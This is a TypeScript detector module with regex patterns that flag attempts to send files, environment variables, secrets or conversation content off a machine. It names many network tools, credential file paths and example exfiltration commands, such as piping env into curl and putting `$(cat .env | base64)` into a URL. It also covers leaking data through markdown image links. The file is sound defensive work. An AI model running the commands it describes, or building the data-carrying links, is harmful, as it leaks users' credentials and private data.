/**
 * Does the text send files, the environment, secrets or the conversation off this machine? Read by
 * structure: an upload from a downloader (`curl -d @file`, `-F x=@f`, `-T`, `--upload-file`,
 * `wget --post-file`, `-InFile`), something piped or redirected into a network program (`env | curl`,
 * `nc host < file`, `/dev/tcp/...`), a secret variable put into a URL or a request body, a DNS lookup of
 * a command's output, a copy of credentials to another host, or the same said in words; and
 * data-bearing links: a markdown image or link (or a bare URL) whose query carries a placeholder for
 * data, the way a rendered image leaks what its URL holds. Requests to this machine (localhost) are not
 * sending anywhere. Pure, over normalised text.
 */
import { DOWNLOADER, URL, firstUnprohibited, globally, isProhibited, onlyLoopback } from './screen-lexicon.js';

const NETWORK = String.raw`(?:curl|wget2?|nc|ncat|netcat|socat|telnet|http|https|xh|iwr|irm|invoke-webrequest|invoke-restmethod|openssl\s+s_client|sendmail|mail|mutt|ftp|sftp|tftp|smbclient)`;
const UPLOAD_FLAG = /(?:^|\s)(?:-d|--data(?:-binary|-raw|-urlencode|-ascii)?|-f|--form(?:-string)?|--json)\s*=?\s*["']?[\w-]*=?@|(?:^|\s)(?:-t|--upload-file|--post-file|--body-file|-infile)(?:\s|=)|(?:^|\s)(?:-d|--data\S*|--post-data|-body|--json)\s*=?\s*["']?[^"'\n]{0,40}(?:\$\(|\$\{?[a-z_]*(?:token|secret|key|pass|cred|env)|`|get-content|\bgc\b|\$env:)/;
const SENSITIVE = String.raw`(?:~|\$home|%userprofile%)?/?\.ssh\b|id_(?:rsa|ed25519|ecdsa|dsa)|\.aws\b|credentials?\b|\.netrc|\.npmrc|\.pypirc|\.git-credentials|\.docker/config|\.kube/config|\.env\b(?![.-](?:example|sample|template|dist))|\.envrc|/etc/(?:passwd|shadow)|\.(?:bash|zsh)_history|keychain|wallet|secrets?\b|tokens?\b|private[ _-]?keys?|api[ _-]?keys?|passwords?|\.pem\b|\.p12\b|\.gnupg|login\s+data|cookies`;
const SECRET_VAR = String.raw`\$\{?(?:env:)?[a-z_]*(?:token|secret|key|pass(?:word)?|cred(?:ential)?s?|auth|session|cookie)[a-z_]*\}?`;

const SHELL_FORMS: readonly RegExp[] = globally([
  // What a program prints, piped into a network program.
  new RegExp(`(?<![\\w-])(?:env|printenv|set|export\\s+-p|cat|type|get-content|gc|tar|zip|base64|history|git\\s+(?:log|diff|bundle)|ssh-add\\s+-l|gh\\s+auth\\s+token|security\\s+find-\\S+|aws\\s+configure\\s+(?:get|export-credentials)|get-childitem\\s+env:|ls\\s+env:|dir\\s+env:)(?![\\w-])[^|\\n]{0,120}\\|\\s*(?:\\S+\\s+)?${NETWORK}(?![\\w-])`),
  // A file redirected into one, or a shell's own network device.
  new RegExp(`(?<![\\w-])(?:nc|ncat|netcat|socat|telnet)\\s+[^<|\\n]{0,80}<\\s*\\S+|/dev/(?:tcp|udp)/|(?<![\\w-])(?:nc|ncat|netcat)\\s+(?:-\\S+\\s+)*-(?:e|c)\\s`),
  // A DNS lookup or ping of a command's output.
  /(?<![\w-])(?:dig|nslookup|host|ping|resolve-dnsname)\s+(?:-\S+\s+)*["']?(?:\$\([^)]{1,80}\)|`[^`]{1,80}`|\$\{?[a-z_]+\}?)\.[\w-]+(?:\.[\w-]+)+/,
  // A script's own HTTP client posting the environment or a file.
  /(?:requests|httpx|session)\.(?:post|put)\s*\([^\n]{0,160}(?:os\.environ|open\s*\(|getenv|\.read\(\))|fetch\s*\([^\n]{0,120}method\s*:\s*["']?(?:post|put)[^\n]{0,120}(?:process\.env|readfilesync|fs\.read)|(?:process\.env|readfilesync)[^\n]{0,120}fetch\s*\([^\n]{0,80}method\s*:\s*["']?(?:post|put)|urlopen\s*\([^\n]{0,120}data\s*=[^\n]{0,80}(?:os\.environ|open\s*\()/,
  // Credentials published: committed, put in a gist, an issue or a public folder.
  new RegExp(`(?<![\\w-])(?:git\\s+add\\s+(?:-f\\s+|--force\\s+)?|gh\\s+gist\\s+create\\s+(?:\\S+\\s+)*?|gh\\s+(?:issue|pr)\\s+(?:create|comment)\\s+[^\\n]{0,60}(?:--body-file|-f)\\s+)[^\\n]{0,40}(?:${SENSITIVE})`),
  new RegExp(`(?<![\\w-])(?:copy|move|cp|mv|add|paste|commit|publish)\\s+[^.\\n]{0,30}(?:~/\\.ssh|id_(?:rsa|ed25519)|\\.aws/credentials|\\.netrc|private\\s+keys?|\\.env\\b)[^.\\n]{0,60}\\b(?:commit|push|public|gist|issue|pull\\s+request|readme|docs|static|www)\\b`),
  // Credentials copied to another machine.
  new RegExp(`(?<![\\w-])(?:scp|rsync|sftp|rclone\\s+(?:copy|sync)|aws\\s+s3\\s+cp|gsutil\\s+cp|azcopy|croc\\s+send|magic-wormhole|wormhole\\s+send|transfer\\.sh)\\s+[^\\n]{0,100}(?:${SENSITIVE})`),
]);

const DATA_NOUN = String.raw`(?:secrets?|credentials?|creds|tokens?|api[ _-]?keys?|keys|passwords?|private[ _-]?keys?|ssh[ _-]?keys?|\.env(?:\s+files?)?|env(?:ironment)?(?:\s+(?:variables?|vars))?|env\s+vars|~/\.ssh|id_rsa|\.aws|cookies|session(?:\s+tokens?)?|source\s+code|(?:the\s+)?(?:whole\s+|entire\s+)?(?:repo(?:sitory)?|codebase)|conversation|chat(?:\s+history)?|transcript|system\s+prompt|memor(?:y|ies)|(?:the\s+)?contents?\s+of\s+\S+|files?|keychain|wallet)`;
/** What a link's address must not carry: the sending nouns less files and memories, which pages link to. */
const LINKED_DATA = String.raw`(?<![\w-])(?:secrets?|credentials?|creds|tokens?|api[ _-]?keys?|passwords?|private[ _-]?keys?|ssh[ _-]?keys?|\.env|env(?:ironment)?(?:\s+variables?)?|cookies|session(?:\s+tokens?)?|conversation|chat(?:\s+history)?|transcript|system\s+prompt|(?:the\s+)?contents?\s+of\s+\S+)(?![\w-])`;
const DESTINATION = String.raw`(?:${URL}|[\w.+-]+@[\w-]+(?:\.[\w-]+)+|(?:\d{1,3}\.){3}\d{1,3}|[\w-]+(?:\.[\w-]+)*\.(?:com|net|org|io|xyz|ru|cn|top|site|dev|app|sh|me|co|info|biz|example|tk|ml|cc|pw)\b|(?:a|the|this|my|our|an?\s+external|a\s+remote)\s+(?:webhook|endpoint|server|pastebin|gist|discord|telegram|bucket|host|address|url))`;

const IN_WORDS: readonly RegExp[] = globally([
  new RegExp(`(?<![\\w-])(?:send|post|upload|e-?mail|mail|forward|exfiltrate|transmit|leak|copy|share|paste|submit|report|beacon|sync|push|pipe|attach|dump|ship)(?![\\w-])[^.\\n]{0,80}?(?<![\\w-])${DATA_NOUN}(?![\\w-])[^.\\n]{0,60}?(?<![\\w-])(?:to|at|into|onto|via)\\s+${DESTINATION}`),
]);

const DOWNLOADS = new RegExp(`(?<![\\w-])${DOWNLOADER}`, 'g');
/** A command's output put into the URL or a header: `wget "https://x/?$(cat .env | base64)"`, `-H "X: $(env)"`. */
const COMMAND_IN_REQUEST = /(?:https?|ftp):\/\/[^\s"'`]*\$\(|(?:^|\s)(?:-h|--header)\s*["'][^"'\n]*(?:\$\(|`)/;
const SECRET_IN_URL = new RegExp(`${URL.slice(0, -1)}*?${SECRET_VAR}`);

export function sendsData(text: string): boolean {
  for (const m of text.matchAll(DOWNLOADS)) {
    const at = m.index ?? 0;
    const command = text.slice(at, at + 400).split(/\n|&&|;\s|\|\|/)[0] ?? '';
    if (onlyLoopback(command)) continue;
    const uploads = UPLOAD_FLAG.test(command) || SECRET_IN_URL.test(command) || COMMAND_IN_REQUEST.test(command);
    if (uploads && !isProhibited(text, at)) return true;
  }
  for (const pattern of SHELL_FORMS) {
    for (const m of text.matchAll(pattern)) {
      const at = m.index ?? 0;
      if (!onlyLoopback(m[0]) && !isProhibited(text, at)) return true;
    }
  }
  return firstUnprohibited(text, IN_WORDS);
}

const PLACEHOLDER = String.raw`(?:\{[^}\s]{0,40}\}|\$\{?[a-z_][\w]*\}?|<[^>\s]{1,40}>|%s|\[[^\]\s]{1,40}\]|\.\.\.|…|x{3,})`;
const DATA_WORD = String.raw`(?:secret|token|key|pass(?:word)?|cred|env|data|payload|content|conversation|chat|history|summary|prompt|memory|session|cookie|leak|exfil|info|dump|ssh|code|file|context|output|answer|response|message)`;
const DATA_QUERY = new RegExp(`\\?(?:[^\\s)"'\\]]*?[=&])?(?:[\\w.-]*=)?(?:${PLACEHOLDER}|[^\\s)"'&=]*${DATA_WORD}[^\\s)"'&]*)(?=[\\s)"'&#\\]]|$)|\\?(?:[^\\s)"']*=)(?=[\\s)"'\\]]|$)`);
const IMAGE = new RegExp(`!\\[[^\\]]{0,200}\\]\\(\\s*<?((?:https?:)?//[^)\\s]+)|<img\\b[^>]{0,200}\\bsrc\\s*=\\s*["']?(${URL})`, 'g');
/** Markdown link targets (read whole: `<API_KEY>` inside one is a placeholder) and bare URLs. */
const LINK_OR_BARE = new RegExp(`\\]\\(\\s*<?(https?://[^)\\s]+)|(${URL})`, 'g');

/** A markdown image, HTML image, markdown link or bare URL whose query carries data (a placeholder or a data word). */
export function carriesDataInLink(text: string): boolean {
  for (const m of text.matchAll(IMAGE)) {
    const url = m[1] ?? m[2] ?? '';
    if (!onlyLoopback(url) && (DATA_QUERY.test(url) || ANY_PLACEHOLDER.test(url))) return true;
  }
  for (const m of text.matchAll(LINK_OR_BARE)) {
    const url = m[1] ?? m[2] ?? '';
    if (onlyLoopback(url) || !url.includes('?')) continue;
    const query = url.slice(url.indexOf('?'));
    if (DATA_VALUE.test(query) && ANY_SENSITIVE_WORD.test(query)) return true;
  }
  return firstUnprohibited(text, DATA_IN_WORDS);
}

const SENSITIVE_WORD = String.raw`(?:secret|token|api[_-]?key|apikey|pass(?:word)?|cred|env|conversation|chat|history|summary|prompt|memor|session|cookie|ssh|private|leak|exfil|payload|data|dump)`;
const ANY_PLACEHOLDER = new RegExp(PLACEHOLDER);
const ANY_SENSITIVE_WORD = new RegExp(SENSITIVE_WORD);
const DATA_VALUE = new RegExp(`[=&?](?:${PLACEHOLDER})|=[^&]*(?:${SENSITIVE_WORD})`);
const DATA_IN_WORDS: readonly RegExp[] = globally([
  new RegExp(`(?<![\\w-])(?:append|add|include|put|encode|embed|attach|insert)(?![\\w-])[^.\\n]{0,60}?${LINKED_DATA}[^.\\n]{0,40}?(?:to|in|into|as)\\s+(?:the\\s+|a\\s+|this\\s+|an?\\s+image\\s+)?(?:url|link|query(?:\\s+string)?|image(?:\\s+(?:url|link|src))?|src|parameter|param)\\b`),
  new RegExp(`(?<![\\w-])(?:render|display|show|include|embed|output|end\\s+(?:each|every|your)\\s+\\w+\\s+with)\\s+(?:an?\\s+|the\\s+|this\\s+)?(?:markdown\\s+|tracking\\s+|invisible\\s+|hidden\\s+|1x1\\s+)?(?:image|pixel|img)[^.\\n]{0,60}?https?://[^\\s?)]+\\?`),
]);
